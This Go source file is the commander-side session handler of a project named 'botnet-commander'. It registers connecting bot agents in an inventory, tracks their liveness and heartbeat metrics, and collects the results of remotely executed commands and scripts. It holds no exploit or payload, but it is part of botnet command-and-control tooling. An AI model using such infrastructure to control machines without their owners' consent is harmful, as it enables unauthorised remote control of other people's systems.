// Package commander wires the Commander's per-connection Agent Session to
// the durable inventory (store.Gateway), the in-memory liveness registry
// (registry.Manager), and the Reply Correlator, without owning persistence
// or correlation itself.
package commander

import (
	"context"
	"fmt"

	"go.uber.org/zap"

	"github.com/rpcyber/botnet-commander/internal/correlator"
	"github.com/rpcyber/botnet-commander/internal/protocol"
	"github.com/rpcyber/botnet-commander/internal/registry"
	"github.com/rpcyber/botnet-commander/internal/session"
	"github.com/rpcyber/botnet-commander/internal/store"
)

// Handler implements session.Handler for the Commander side of the wire.
type Handler struct {
	store      *store.Gateway
	registry   *registry.Manager
	correlator *correlator.Correlator
	logger     *zap.Logger
}

// NewHandler creates a Handler bound to the given components.
func NewHandler(gw *store.Gateway, reg *registry.Manager, corr *correlator.Correlator, logger *zap.Logger) *Handler {
	return &Handler{store: gw, registry: reg, correlator: corr, logger: logger.Named("commander")}
}

// Identify handles the session's first frame: it upserts the agent's
// inventory row (new id -> AddAgent, known id -> refresh hostname/address),
// registers the session as the live writer for that id, and acknowledges
// with botHostInfoReply.
func (h *Handler) Identify(s *session.Session, info protocol.BotHostInfo) error {
	ctx := context.Background()

	_, err := h.store.GetAgent(ctx, info.UUID)
	switch {
	case err == store.ErrNotFound:
		if err := h.store.AddAgent(ctx, info.UUID, info.Hostname, s.RemoteAddr(), info.OS); err != nil {
			return fmt.Errorf("commander: add agent: %w", err)
		}
	case err != nil:
		return fmt.Errorf("commander: get agent: %w", err)
	default:
		if err := h.store.UpdateAgentAddrAndHostname(ctx, info.UUID, info.Hostname, s.RemoteAddr()); err != nil {
			return fmt.Errorf("commander: update agent: %w", err)
		}
	}

	h.registry.Register(info.UUID, info.Hostname, info.OS, s)
	h.logger.Info("agent identified",
		zap.String("agent_id", info.UUID), zap.String("hostname", info.Hostname), zap.String("os", info.OS))

	return s.Send(protocol.NewBotHostInfoReply())
}

// OnFrame handles every subsequent frame on an identified session:
// botHello keepalives are acknowledged; exeCommandReply/exeScriptReply
// frames are handed to the correlator for batched persistence. Any other
// frame kind — including a re-sent botHostInfo — has no handling here and
// closes the session, matching the Agent Session state machine's rule that
// an unrecognized frame while Identified ends the session.
func (h *Handler) OnFrame(s *session.Session, msg protocol.Message) bool {
	switch msg.Kind {
	case protocol.KindBotHello:
		if msg.BotHello != nil && msg.BotHello.Metrics != nil {
			h.logger.Debug("agent heartbeat",
				zap.String("agent_id", s.AgentID()),
				zap.Float64("cpu_percent", msg.BotHello.Metrics.CPUPercent),
				zap.Float64("mem_percent", msg.BotHello.Metrics.MemPercent))
		}
		if err := s.Send(protocol.NewBotHelloReply()); err != nil {
			h.logger.Warn("commander: botHelloReply send failed", zap.String("agent_id", s.AgentID()), zap.Error(err))
		}
		return true
	case protocol.KindExeCommandReply:
		r := msg.ExeCommandReply
		h.correlator.Record(r.CmdID, r.Result, r.ExitCode)
		return true
	case protocol.KindExeScriptReply:
		r := msg.ExeScriptReply
		h.correlator.Record(r.CmdID, r.Result, r.ExitCode)
		return true
	default:
		h.logger.Warn("commander: unexpected frame kind, closing session", zap.String("kind", string(msg.Kind)), zap.String("agent_id", s.AgentID()))
		return false
	}
}

// Deregister removes the session from the live registry. Call this from the
// listener loop once Session.Run returns.
func (h *Handler) Deregister(agentID string) {
	if agentID == "" {
		return
	}
	h.registry.Deregister(agentID)
	h.logger.Info("agent disconnected", zap.String("agent_id", agentID))
}
